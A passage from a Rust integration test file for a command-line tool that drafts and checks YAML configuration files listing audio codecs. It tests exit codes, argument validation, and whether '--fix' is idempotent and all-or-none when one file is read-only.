            .args(["draft", "d.yaml", "-t", "md,pdf", "--overwrite"])
            .current_dir(home.path())
            .env("SOURCE_DATE_EPOCH", "1796083200")
            .env(name, value)
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(0), "{name}={value}: {}", String::from_utf8_lossy(&output.stderr));
        assert!(began.elapsed().as_secs() < 60, "{name}={value}");
    }
    let (code, _, said) = run(&home, &["check", "d.yaml", "--jobs", "100000"]);
    assert!(code == 2 && said.contains("--jobs"), "{code} {said}");
}

// S19
#[test]
fn mending_is_whole_in_one_run_and_all_or_none() {
    let codecs = |count: usize| {
        let equal = vec!["g.711a"; count].join(", ");
        example("smallest.yaml").replace("[G.711A, G.729]", &format!("[{equal}]"))
    };
    let home = home(&[("many.yaml", &codecs(70)), ("ro.yaml", &codecs(2)), ("z.yaml", &codecs(2))]);
    let text = |name: &str| fs::read_to_string(home.path().join(name)).unwrap();
    assert_ne!(codecs(2), example("smallest.yaml"));
    run(&home, &["check", "--fix", "many.yaml"]);
    let once = text("many.yaml");
    assert!(!once.contains("g.711a"), "{once}");
    run(&home, &["check", "--fix", "many.yaml"]);
    assert_eq!(text("many.yaml"), once);
    let mut mode = fs::metadata(home.path().join("ro.yaml")).unwrap().permissions();
    mode.set_readonly(true);
    fs::set_permissions(home.path().join("ro.yaml"), mode).unwrap();
    for order in [["ro.yaml", "z.yaml"], ["z.yaml", "ro.yaml"]] {
        let (code, _, said) = run(&home, &["check", "--fix", order[0], order[1]]);
        assert!(code == 2 && said.contains("ro.yaml"), "{said}");
        assert_eq!((text("ro.yaml"), text("z.yaml")), (codecs(2), codecs(2)), "{order:?}");
    }
}
